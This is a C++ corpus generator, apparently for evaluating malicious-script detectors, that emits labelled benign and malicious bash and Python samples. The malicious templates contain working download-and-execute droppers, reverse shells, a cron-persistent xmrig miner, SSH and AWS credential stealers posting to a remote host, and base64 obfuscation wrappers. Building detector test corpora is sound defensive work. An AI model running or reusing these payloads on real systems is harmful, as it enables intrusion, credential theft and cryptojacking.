#include <algorithm>
#include <cstdio>
#include <set>
#include <string>
#include <vector>

#include "score/corpus.hpp"
#include "score/util/base64.hpp"
#include "score/util/io.hpp"
#include "score/util/rng.hpp"
#include "score/util/sha256.hpp"

// Deterministic script generator. Every sample is derived from an
// independent substream of the profile seed, so corpus content is a
// pure function of (profile, seed).

namespace score::corpus {

namespace {

const std::vector<std::string> kNouns = {
    "data",  "cache", "report", "backup", "sync",  "log",
    "tmp",   "job",   "agent",  "node",   "index", "batch",
    "queue", "audit", "metric", "inbox",  "feed",  "store"};

const std::vector<std::string> kDirs = {
    "/var/log",  "/var/tmp", "/opt/app",   "/srv/data",
    "/home/ops", "/tmp",     "/var/cache", "/usr/local/share"};

std::string suffix(Rng& rng, int len = 4) {
  static const char* chars = "abcdefghijklmnopqrstuvwxyz0123456789";
  std::string s;
  for (int i = 0; i < len; ++i) s.push_back(chars[rng.below(36)]);
  return s;
}

std::string var(Rng& rng) {
  return rng.pick(kNouns) + "_" + suffix(rng, 3);
}

std::string rand_ip(Rng& rng) {
  return std::to_string(rng.between(11, 223)) + "." +
         std::to_string(rng.between(0, 255)) + "." +
         std::to_string(rng.between(0, 255)) + "." +
         std::to_string(rng.between(1, 254));
}

std::string rand_port(Rng& rng) {
  static const std::vector<std::string> common = {"4444", "1337", "8080",
                                                  "9001", "5555", "2222"};
  if (rng.chance(0.5)) return common[rng.below(common.size())];
  return std::to_string(rng.between(1024, 65000));
}

std::string rand_file(Rng& rng) {
  static const std::vector<std::string> names = {"b", "x", "sys", "kd",
                                                 "up", "run", "ld", "m"};
  std::string ext = rng.chance(0.5) ? ".x86" : (rng.chance(0.5) ? ".bin" : "");
  return names[rng.below(names.size())] + suffix(rng, 2) + ext;
}

std::string wallet(Rng& rng) {
  std::string s = "4";
  static const char* chars =
      "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz123456789";
  for (int i = 0; i < 24; ++i) s.push_back(chars[rng.below(58)]);
  return s;
}

struct ScriptDraft {
  std::vector<std::string> lines;
  // Half-open range of payload lines eligible for base64 wrapping.
  size_t core_begin = 0;
  size_t core_end = 0;
};

void mark_core(ScriptDraft& d, size_t begin) {
  d.core_begin = begin;
  d.core_end = d.lines.size();
}

// ---- benign bash ----

ScriptDraft bash_backup(Rng& rng) {
  ScriptDraft d;
  std::string src = rng.pick(kDirs), name = var(rng);
  std::string dest = "/var/backups/" + name;
  d.lines = {
      "# nightly archive for " + src,
      "set -e",
      "stamp=$(date +%Y%m%d)",
      "mkdir -p " + dest,
      "tar czf " + dest + "/" + name + "_${stamp}.tar.gz " + src,
      "find " + dest + " -name '*.tar.gz' -mtime +" +
          std::to_string(rng.between(7, 30)) + " -delete",
      "echo \"archive done for ${stamp}\" >> " + dest + "/history.log"};
  if (rng.chance(0.5))
    d.lines.push_back("du -sh " + dest + " >> " + dest + "/history.log");
  return d;
}

ScriptDraft bash_logrotate(Rng& rng) {
  ScriptDraft d;
  std::string dir = rng.pick(kDirs), app = rng.pick(kNouns);
  d.lines = {"# rotate " + app + " logs",
             "logdir=" + dir + "/" + app,
             "mkdir -p ${logdir}/old",
             "for f in ${logdir}/*.log; do",
             "  mv $f ${logdir}/old/$(basename $f).$(date +%s)",
             "  gzip ${logdir}/old/$(basename $f).$(date +%s)",
             "done",
             "find ${logdir}/old -mtime +" +
                 std::to_string(rng.between(5, 21)) + " -delete"};
  if (rng.chance(0.6))
    d.lines.push_back("echo rotated ${logdir} >> /var/log/rotate_audit.log");
  return d;
}

ScriptDraft bash_sysinfo(Rng& rng) {
  ScriptDraft d;
  std::string out = var(rng);
  d.lines = {"# host health snapshot",
             "out=/var/tmp/" + out + ".txt",
             "date > $out",
             "uptime >> $out",
             "df -h >> $out",
             "free -m >> $out"};
  if (rng.chance(0.5)) d.lines.push_back("who >> $out");
  if (rng.chance(0.5))
    d.lines.push_back("ps aux | sort -rk3 | head -" +
                      std::to_string(rng.between(5, 15)) + " >> $out");
  d.lines.push_back("echo \"report written to $out\"");
  return d;
}

ScriptDraft bash_csv(Rng& rng) {
  ScriptDraft d;
  std::string col = std::to_string(rng.between(1, 5));
  std::string f = rng.pick(kNouns);
  d.lines = {
      "# summarize " + f + " exports",
      "input=/srv/data/" + f + ".csv",
      "cut -d, -f" + col + " $input | sort | uniq -c | sort -rn > /tmp/" + f +
          "_summary.txt",
      "wc -l $input >> /tmp/" + f + "_summary.txt",
      "awk -F, '{ total += $" + col + " } END { print total }' $input"};
  if (rng.chance(0.5))
    d.lines.push_back("head -" + std::to_string(rng.between(3, 9)) +
                      " /tmp/" + f + "_summary.txt");
  return d;
}

ScriptDraft bash_health(Rng& rng) {
  ScriptDraft d;
  std::string port = std::to_string(rng.between(3000, 9500));
  std::string svc = rng.pick(kNouns);
  d.lines = {"# poke the " + svc + " service",
             "status=$(curl -s http://localhost:" + port + "/health)",
             "if [ -z \"$status\" ]; then",
             "  echo \"" + svc + " not responding\" >> /var/log/health.log",
             "else",
             "  echo \"" + svc + " ok\" >> /var/log/health.log",
             "fi"};
  if (rng.chance(0.5)) d.lines.push_back("sleep " + std::to_string(rng.between(1, 5)));
  return d;
}

ScriptDraft bash_deploy(Rng& rng) {
  ScriptDraft d;
  std::string app = rng.pick(kNouns), rel = suffix(rng, 5);
  d.lines = {"# stage release " + rel,
             "release=" + rel,
             "appdir=/opt/app/" + app,
             "mkdir -p ${appdir}/releases/${release}",
             "cp -r /srv/build/latest/* ${appdir}/releases/${release}/",
             "ln -sfn ${appdir}/releases/${release} ${appdir}/current",
             "echo \"deployed ${release}\" >> ${appdir}/deploy.log"};
  if (rng.chance(0.5))
    d.lines.push_back("ls ${appdir}/releases | head -20 >> ${appdir}/deploy.log");
  return d;
}

// ---- malicious bash ----

ScriptDraft bash_downloader(Rng& rng) {
  ScriptDraft d;
  std::string ip = rand_ip(rng), f = rand_file(rng);
  std::string url = "http://" + ip + "/" + suffix(rng, 1) + "/" + f;
  d.lines.push_back("cd " + std::string(rng.chance(0.5) ? "/tmp" : "/var/tmp"));
  size_t core = d.lines.size();
  if (rng.chance(0.5))
    d.lines.push_back("wget " + url);
  else
    d.lines.push_back("curl -O " + url);
  d.lines.push_back("chmod " + std::string(rng.chance(0.6) ? "777" : "+x") +
                    " " + f);
  d.lines.push_back("./" + f + (rng.chance(0.4) ? " Apache" : ""));
  d.lines.push_back("rm -rf " + f);
  d.lines.push_back("rm -rf $0");
  mark_core(d, core);
  return d;
}

ScriptDraft bash_reverse_shell(Rng& rng) {
  ScriptDraft d;
  std::string ip = rand_ip(rng), port = rand_port(rng);
  bool loop = rng.chance(0.5);
  if (loop) d.lines.push_back("while true; do");
  size_t core = d.lines.size();
  if (rng.chance(0.6)) {
    d.lines.push_back(std::string(loop ? "  " : "") + "bash -i >& /dev/tcp/" +
                      ip + "/" + port + " 0>&1");
  } else {
    d.lines.push_back(std::string(loop ? "  " : "") + "nc -e /bin/sh " + ip +
                      " " + port);
  }
  mark_core(d, core);
  if (loop) {
    d.lines.push_back("  sleep " + std::to_string(rng.between(10, 120)));
    d.lines.push_back("done");
  }
  return d;
}

ScriptDraft bash_miner(Rng& rng) {
  ScriptDraft d;
  std::string ip = rand_ip(rng), pool = rand_port(rng), w = wallet(rng);
  d.lines.push_back("cd /tmp");
  size_t core = d.lines.size();
  d.lines.push_back("wget http://" + ip + "/xmrig.tar.gz");
  d.lines.push_back("tar xzf xmrig.tar.gz");
  d.lines.push_back("nohup ./xmrig -o pool.minexmr.com:" + pool + " -u " + w +
                    " >/dev/null 2>&1 &");
  d.lines.push_back(
      "(crontab -l; echo \"@reboot /tmp/xmrig -o pool.minexmr.com:" + pool +
      " -u " + w + "\") | crontab -");
  mark_core(d, core);
  if (rng.chance(0.5)) d.lines.push_back("rm xmrig.tar.gz");
  return d;
}

ScriptDraft bash_stealer(Rng& rng) {
  ScriptDraft d;
  std::string ip = rand_ip(rng), arch = suffix(rng, 4);
  d.lines.push_back("loot=/tmp/." + arch + ".tar.gz");
  size_t core = d.lines.size();
  d.lines.push_back(
      "tar czf $loot ~/.ssh ~/.aws/credentials ~/.bash_history 2>/dev/null");
  d.lines.push_back("curl -s -F \"f=@$loot\" http://" + ip + "/up" +
                    (rng.chance(0.5) ? "load" : "") + ".php");
  d.lines.push_back("rm -f $loot");
  mark_core(d, core);
  if (rng.chance(0.4)) d.lines.push_back("history -c");
  return d;
}

// ---- benign python ----

ScriptDraft py_csv2json(Rng& rng) {
  ScriptDraft d;
  std::string f = rng.pick(kNouns);
  d.lines = {"import csv",
             "import json",
             "",
             "rows = []",
             "src = open(\"/srv/data/" + f + ".csv\")",
             "reader = csv.DictReader(src)",
             "for row in reader:",
             "    rows.append(row)",
             "src.close()",
             "out = open(\"/tmp/" + f + ".json\", \"w\")",
             "json.dump(rows, out)",
             "out.close()",
             "print(\"converted\", len(rows), \"rows\")"};
  return d;
}

ScriptDraft py_logsummary(Rng& rng) {
  ScriptDraft d;
  std::string app = rng.pick(kNouns);
  d.lines = {"import collections",
             "",
             "counts = collections.Counter()",
             "log = open(\"/var/log/" + app + ".log\")",
             "for line in log:",
             "    parts = line.split()",
             "    if len(parts) > 2:",
             "        counts[parts[2]] += 1",
             "log.close()",
             "for key, n in counts.most_common(" +
                 std::to_string(rng.between(5, 20)) + "):",
             "    print(key, n)"};
  return d;
}

ScriptDraft py_backup(Rng& rng) {
  ScriptDraft d;
  std::string src = rng.pick(kDirs), name = var(rng);
  d.lines = {"import os",
             "import shutil",
             "import time",
             "",
             "stamp = time.strftime(\"%Y%m%d\")",
             "dest = \"/var/backups/" + name + "_\" + stamp",
             "if not os.path.exists(dest):",
             "    shutil.copytree(\"" + src + "\", dest)",
             "count = 0",
             "for root, dirs, files in os.walk(dest):",
             "    count += len(files)",
             "print(\"copied\", count, \"files\")"};
  return d;
}

ScriptDraft py_config(Rng& rng) {
  ScriptDraft d;
  std::string svc = rng.pick(kNouns);
  d.lines = {"import json",
             "",
             "config = {}",
             "config[\"service\"] = \"" + svc + "\"",
             "config[\"port\"] = " + std::to_string(rng.between(3000, 9500)),
             "config[\"workers\"] = " + std::to_string(rng.between(1, 16)),
             "config[\"debug\"] = False",
             "out = open(\"/etc/" + svc + "/settings.json\", \"w\")",
             "json.dump(config, out, indent=2)",
             "out.close()",
             "print(\"wrote config for\", config[\"service\"])"};
  return d;
}

ScriptDraft py_report(Rng& rng) {
  ScriptDraft d;
  std::string name = var(rng);
  d.lines = {"import datetime",
             "import platform",
             "",
             "now = datetime.datetime.utcnow()",
             "report = open(\"/var/tmp/" + name + ".txt\", \"w\")",
             "report.write(\"generated: \" + now.isoformat() + \"\\n\")",
             "report.write(\"host: \" + platform.node() + \"\\n\")",
             "report.write(\"system: \" + platform.system() + \"\\n\")",
             "report.close()",
             "print(\"report ready\")"};
  if (rng.chance(0.5))
    d.lines.push_back("print(now.strftime(\"%H:%M\"))");
  return d;
}

ScriptDraft py_wordcount(Rng& rng) {
  ScriptDraft d;
  std::string f = rng.pick(kNouns);
  d.lines = {"words = {}",
             "text = open(\"/srv/data/" + f + ".txt\").read()",
             "for token in text.split():",
             "    token = token.lower()",
             "    words[token] = words.get(token, 0) + 1",
             "top = sorted(words.items(), key=lambda kv: kv[1], reverse=True)",
             "for token, n in top[:" + std::to_string(rng.between(5, 25)) +
                 "]:",
             "    print(token, n)"};
  return d;
}

// ---- malicious python ----

ScriptDraft py_downloader(Rng& rng) {
  ScriptDraft d;
  std::string ip = rand_ip(rng), f = rand_file(rng);
  d.lines.push_back("import os");
  d.lines.push_back("import sys");
  d.lines.push_back("import urllib.request");
  d.lines.push_back("");
  size_t core = d.lines.size();
  d.lines.push_back("urllib.request.urlretrieve(\"http://" + ip + "/" + f +
                    "\", \"/tmp/" + f + "\")");
  d.lines.push_back("os.chmod(\"/tmp/" + f + "\", 0o755)");
  d.lines.push_back("os.system(\"/tmp/" + f + "\")");
  d.lines.push_back("os.remove(\"/tmp/" + f + "\")");
  d.lines.push_back("os.remove(sys.argv[0])");
  mark_core(d, core);
  return d;
}

ScriptDraft py_reverse_shell(Rng& rng) {
  ScriptDraft d;
  std::string ip = rand_ip(rng), port = rand_port(rng);
  d.lines.push_back("import os");
  d.lines.push_back("import pty");
  d.lines.push_back("import socket");
  d.lines.push_back("");
  size_t core = d.lines.size();
  d.lines.push_back("s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)");
  d.lines.push_back("s.connect((\"" + ip + "\", " + port + "))");
  d.lines.push_back("os.dup2(s.fileno(), 0)");
  d.lines.push_back("os.dup2(s.fileno(), 1)");
  d.lines.push_back("os.dup2(s.fileno(), 2)");
  d.lines.push_back("pty.spawn(\"/bin/sh\")");
  mark_core(d, core);
  return d;
}

ScriptDraft py_miner(Rng& rng) {
  ScriptDraft d;
  std::string ip = rand_ip(rng), pool = rand_port(rng), w = wallet(rng);
  d.lines.push_back("import os");
  d.lines.push_back("import subprocess");
  d.lines.push_back("import urllib.request");
  d.lines.push_back("");
  size_t core = d.lines.size();
  d.lines.push_back("urllib.request.urlretrieve(\"http://" + ip +
                    "/xmrig\", \"/tmp/xmrig\")");
  d.lines.push_back("os.chmod(\"/tmp/xmrig\", 0o755)");
  d.lines.push_back(
      "subprocess.Popen([\"/tmp/xmrig\", \"-o\", \"pool.minexmr.com:" + pool +
      "\", \"-u\", \"" + w + "\"])");
  d.lines.push_back(
      "cron = \"@reboot /tmp/xmrig -o pool.minexmr.com:" + pool + " -u " + w +
      "\\n\"");
  d.lines.push_back(
      "subprocess.run(\"crontab -\", input=cron, shell=True, text=True)");
  mark_core(d, core);
  return d;
}

ScriptDraft py_stealer(Rng& rng) {
  ScriptDraft d;
  std::string ip = rand_ip(rng);
  d.lines.push_back("import glob");
  d.lines.push_back("import os");
  d.lines.push_back("import urllib.request");
  d.lines.push_back("");
  size_t core = d.lines.size();
  d.lines.push_back("loot = \"\"");
  d.lines.push_back(
      "targets = glob.glob(os.path.expanduser(\"~/.ssh/id_*\")) + "
      "glob.glob(os.path.expanduser(\"~/.aws/credentials\"))");
  d.lines.push_back("for path in targets:");
  d.lines.push_back("    loot += open(path).read()");
  d.lines.push_back("req = urllib.request.Request(\"http://" + ip +
                    "/c2/drop\", data=loot.encode())");
  d.lines.push_back("urllib.request.urlopen(req)");
  mark_core(d, core);
  return d;
}

using Builder = ScriptDraft (*)(Rng&);

const std::vector<Builder> kBenignBash = {bash_backup, bash_logrotate,
                                          bash_sysinfo, bash_csv,
                                          bash_health,  bash_deploy};
const std::vector<Builder> kBenignPy = {py_csv2json, py_logsummary, py_backup,
                                        py_config,   py_report,     py_wordcount};

Builder malicious_builder(const std::string& family, Language lang) {
  if (family == "downloader")
    return lang == Language::bash ? bash_downloader : py_downloader;
  if (family == "reverse_shell")
    return lang == Language::bash ? bash_reverse_shell : py_reverse_shell;
  if (family == "miner") return lang == Language::bash ? bash_miner : py_miner;
  if (family == "stealer")
    return lang == Language::bash ? bash_stealer : py_stealer;
  throw ConfigError("synthesize: unknown family " + family);
}

void apply_obfuscation(ScriptDraft& d, Language lang) {
  if (d.core_end <= d.core_begin) return;
  std::string payload;
  for (size_t i = d.core_begin; i < d.core_end; ++i) {
    payload += d.lines[i];
    payload += '\n';
  }
  // Pad short payloads so the encoded run clears 64 characters.
  while (payload.size() < 48) payload += "true\n";
  std::string b64 = base64_encode(payload);
  std::vector<std::string> wrapped;
  if (lang == Language::bash) {
    wrapped = {"echo " + b64 + " | base64 -d | bash"};
  } else {
    wrapped = {"import base64",
               "exec(base64.b64decode(\"" + b64 + "\"))"};
  }
  d.lines.erase(d.lines.begin() + long(d.core_begin),
                d.lines.begin() + long(d.core_end));
  d.lines.insert(d.lines.begin() + long(d.core_begin), wrapped.begin(),
                 wrapped.end());
}

std::vector<std::string> preamble(Rng& rng, Language lang, uint32_t n) {
  std::vector<std::string> out;
  out.reserve(n);
  for (uint32_t i = 0; i < n; ++i) {
    std::string name = "cfg_" + rng.pick(kNouns) + "_" + std::to_string(i);
    std::string value;
    if (rng.chance(0.5))
      value = "\"" + suffix(rng, 6) + "\"";
    else
      value = std::to_string(rng.between(0, 9999));
    if (lang == Language::bash)
      out.push_back(name + "=" + value);
    else
      out.push_back(name + " = " + value);
  }
  return out;
}

std::string assemble(Rng& rng, Language lang, const ScriptDraft& draft,
                     const std::vector<std::string>& pre) {
  std::string text;
  if (lang == Language::bash) {
    text = rng.chance(0.8) ? "#!/bin/bash\n" : "#!/bin/sh\n";
  } else if (rng.chance(0.5)) {
    text = "#!/usr/bin/env python3\n";
  }
  for (const auto& line : pre) {
    text += line;
    text += '\n';
  }
  for (const auto& line : draft.lines) {
    text += line;
    text += '\n';
  }
  return text;
}

}  // namespace

CorpusManifest synthesize(const SynthProfile& profile, uint64_t seed) {
  if (profile.languages.empty())
    throw ConfigError("synthesize: no languages selected");
  if (profile.n_malicious > 0 && profile.families.empty())
    throw ConfigError("synthesize: no families selected");
  std::filesystem::create_directories(profile.out_dir);

  Rng base(seed);
  CorpusManifest manifest;
  uint32_t total = profile.n_benign + profile.n_malicious;
  std::set<std::string> seen;

  for (uint32_t i = 0; i < total; ++i) {
    bool malicious = i >= profile.n_benign;
    uint32_t group_index = malicious ? i - profile.n_benign : i;
    Language lang = profile.languages[group_index % profile.languages.size()];
    Rng rng = base.fork(0x5c0feULL * (i + 1));

    ScriptDraft draft;
    std::string family;
    if (malicious) {
      family = profile.families[group_index % profile.families.size()];
      draft = malicious_builder(family, lang)(rng);
      if (rng.chance(profile.obfuscation_rate)) apply_obfuscation(draft, lang);
    } else {
      const auto& pool = lang == Language::bash ? kBenignBash : kBenignPy;
      draft = pool[rng.below(pool.size())](rng);
    }
    auto pre = preamble(rng, lang, profile.preamble_statements);
    std::string text = assemble(rng, lang, draft, pre);

    char name[32];
    std::snprintf(name, sizeof(name), "s%05u%s", i,
                  lang == Language::bash ? ".sh" : ".py");
    auto path = profile.out_dir / name;
    write_file(path, text);

    ScriptSample sample;
    sample.sha256 = sha256_hex(text);
    if (!seen.insert(sample.sha256).second)
      throw ScoreError("synthesize: duplicate sample content at index " +
                       std::to_string(i));
    sample.path = path.string();
    sample.language = lang;
    sample.label = malicious ? Label::malicious : Label::benign;
    sample.family = family;
    sample.size_bytes = text.size();
    manifest.samples.push_back(std::move(sample));
  }

  std::sort(manifest.samples.begin(), manifest.samples.end(),
            [](const ScriptSample& a, const ScriptSample& b) {
              return a.sha256 < b.sha256;
            });
  manifest.created_at = iso8601_now();
  return manifest;
}

}  // namespace score::corpus
